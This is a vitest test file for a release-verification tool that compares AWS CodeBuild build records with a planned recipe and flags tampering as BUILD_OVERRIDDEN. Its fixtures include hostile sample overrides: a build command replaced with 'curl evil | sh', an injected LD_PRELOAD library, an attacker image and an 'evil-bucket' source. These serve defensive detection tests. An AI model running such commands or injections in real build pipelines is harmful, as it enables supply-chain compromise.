/**
 * Overrides IAM cannot refuse (a grant changed by hand, StartBuild fields without a condition key)
 * still show in the build's own record: the checker compares BatchGetBuilds' image, command,
 * variables and privileged mode with the plan, and any departure is BUILD_OVERRIDDEN (INCOMPLETE).
 */
import type { Build } from '@aws-sdk/client-codebuild';
import { describe, expect, it } from 'vitest';
import { BUILD_ENV } from '../../lambda/adapters/builder/codebuild-env';
import { CodeBuildResults, overridesOf, type ExpectedRecipe } from '../../lambda/adapters/builder/codebuild-results';
import { FINDING_CODES } from '../../lambda/core/findings';

const IMAGE = `debian@sha256:${'c'.repeat(64)}`;
const recipe: ExpectedRecipe = { command: 'make release', env: { CARGO_TERM_COLOR: 'never' }, privileged: false };
const RUN = '20260302T030000Z-abcdef';

/** a build record as BatchGetBuilds returns it: the project's variables, then the launcher's */
function build(change: (b: Build) => void = () => undefined): Build {
  const b: Build = {
    id: 'relverify-rv-linux:0b8e9c3e-2f57-4c5e-9a3e-6d1f2b3c4d5e',
    projectName: 'relverify-rv-linux',
    buildStatus: 'SUCCEEDED',
    buildComplete: true,
    environment: {
      type: 'LINUX_CONTAINER',
      image: IMAGE,
      computeType: 'BUILD_GENERAL1_MEDIUM',
      privilegedMode: false,
      environmentVariables: [
        { name: BUILD_ENV.command, value: 'make release', type: 'PLAINTEXT' },
        { name: BUILD_ENV.target, value: 'linux', type: 'PLAINTEXT' },
        { name: 'CARGO_TERM_COLOR', value: 'never', type: 'PLAINTEXT' },
        { name: BUILD_ENV.runId, value: RUN, type: 'PLAINTEXT' },
        { name: BUILD_ENV.commit, value: 'a'.repeat(40), type: 'PLAINTEXT' },
      ],
    },
  };
  change(b);
  return b;
}
const vars = (b: Build) => b.environment!.environmentVariables!;

describe('the build record compared with the plan', () => {
  it('a build as planned has no overrides', () => {
    expect(overridesOf(build(), IMAGE, recipe)).toEqual([]);
  });
  it('each departure is named', () => {
    expect(overridesOf(build((b) => (b.environment!.image = 'attacker/img@sha256:' + '0'.repeat(64))), IMAGE, recipe)).toEqual([expect.stringMatching(/^image attacker\/img@sha256:0+, planned debian@sha256/)]);
    expect(overridesOf(build((b) => (vars(b)[0]!.value = 'curl evil | sh')), IMAGE, recipe)).toEqual([`variable ${BUILD_ENV.command} is "curl evil | sh", planned "make release"`]);
    expect(overridesOf(build((b) => vars(b).push({ name: BUILD_ENV.command, value: 'curl evil | sh', type: 'PLAINTEXT' })), IMAGE, recipe)).toEqual([expect.stringMatching(/variable RELVERIFY_COMMAND is "make release \| curl evil \| sh"/)]);
    expect(overridesOf(build((b) => vars(b).push({ name: 'LD_PRELOAD', value: '/tmp/x.so', type: 'PLAINTEXT' })), IMAGE, recipe)).toEqual(['variable LD_PRELOAD was not planned']);
    expect(overridesOf(build((b) => vars(b).splice(2, 1)), IMAGE, recipe)).toEqual(['variable CARGO_TERM_COLOR missing']);
    expect(overridesOf(build((b) => (vars(b)[3]!.type = 'PARAMETER_STORE')), IMAGE, recipe)).toEqual([`variable ${BUILD_ENV.runId} is PARAMETER_STORE, not PLAINTEXT`]);
    expect(overridesOf(build((b) => (b.environment!.privilegedMode = true)), IMAGE, recipe)).toEqual(['privileged mode on, planned off']);
    expect(overridesOf(build((b) => (b.environment!.privilegedMode = true)), IMAGE, { ...recipe, privileged: true })).toEqual([]);
    expect(overridesOf(build((b) => (b.source = { type: 'S3', location: 'evil-bucket/src.zip' })), IMAGE, recipe)).toEqual(['source S3 evil-bucket/src.zip, planned none (NO_SOURCE)']);
    expect(overridesOf(build((b) => (b.source = { type: 'NO_SOURCE' })), IMAGE, recipe)).toEqual([]);
  });
  it('toBuildResult carries them (and a target without a recipe is refused, not trusted); the finding is INCOMPLETE', () => {
    const results = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: { linux: recipe } });
    const record = { runId: RUN, target: 'linux', build: build((b) => (b.environment!.image = 'other@sha256:' + '1'.repeat(64))) };
    expect(results.toBuildResult(record, IMAGE).overrides).toHaveLength(1);
    expect(results.toBuildResult({ ...record, build: build() }, IMAGE).overrides).toEqual([]);
    const noRecipe = new CodeBuildResults({ projects: { 'relverify-rv-linux': 'linux' }, artifactsBucket: 'a', recipes: {} });
    expect(noRecipe.toBuildResult({ ...record, build: build() }, IMAGE).overrides).toEqual(['no recipe for target linux']);
    expect(FINDING_CODES.BUILD_OVERRIDDEN).toBe('INCOMPLETE');
    expect(FINDING_CODES.IMAGE_NOT_DIGEST_PINNED).toBe('NOTICE');
  });
});

describe('in the target report', () => {
  it('an overridden build is INCOMPLETE with BUILD_OVERRIDDEN even when the bytes match; a macOS fleet image is named as not pinned', async () => {
    const { mkdtemp, writeFile } = await import('node:fs/promises');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { checkTarget } = await import('../../lambda/core/check-target');
    const { DirectoryForge, planFor, testConfig } = await import('../handlers/support');
    const dir = await mkdtemp(join(tmpdir(), 'relverify-override-'));
    await writeFile(join(dir, 'app-2.0.0'), 'app\n');
    const none = { scheme: 'none', reason: 'test asset' } as const;
    const config = testConfig({
      targets: [
        { name: 'linux', image: IMAGE, command: 'make', artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }] },
        { name: 'mac', platform: 'macos', image: 'aws/codebuild/macos-arm-base:15', fleetArn: 'arn:aws:codebuild:eu-west-1:123456789012:fleet/mac:1', command: 'make', artifacts: [{ path: 'dist/app', asset: 'app-{version}', signature: none }] },
      ],
    });
    const sha = 'a'.repeat(40);
    const plan = planFor(config, RUN, sha);
    const forge = new DirectoryForge(plan.release, dir, '/nonexistent');
    const rebuilt = { fetch: async (_p: string, dest: string) => (await writeFile(dest, 'app\n'), { path: dest, sha256: (await import('node:crypto')).createHash('sha256').update('app\n').digest('hex'), size: 4 }) };
    const deps = { forge, workDir: dir, limits: { maxBytes: 1 << 20, timeoutMs: 5000 }, formats: (await import('../../lambda/formats/ops')).formatOps };
    const base = { buildId: 'b:1', status: 'SUCCEEDED' as const, artifacts: rebuilt };
    const clean = await checkTarget(plan, 'linux', { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: [] }, deps);
    expect(clean.verdict).toBe('VERIFIED');
    const overridden = await checkTarget(plan, 'linux', { ...base, target: 'linux', image: { ref: IMAGE, enforced: true }, overrides: ['variable LD_PRELOAD was not planned'] }, deps);
    expect(overridden.verdict).toBe('INCOMPLETE');
    expect(overridden.findings.map((f) => f.code)).toContain('BUILD_OVERRIDDEN');
    const mac = await checkTarget(plan, 'mac', { ...base, target: 'mac', image: { ref: 'aws/codebuild/macos-arm-base:15', enforced: true }, overrides: [] }, deps);
    expect(mac.verdict).toBe('VERIFIED');
    const notice = mac.findings.find((f) => f.code === 'IMAGE_NOT_DIGEST_PINNED');
    expect(notice?.message).toMatch(/image not pinned by digest: fleet-provided \(aws\/codebuild\/macos-arm-base:15/);
    expect(clean.findings.map((f) => f.code)).not.toContain('IMAGE_NOT_DIGEST_PINNED');
  });
});
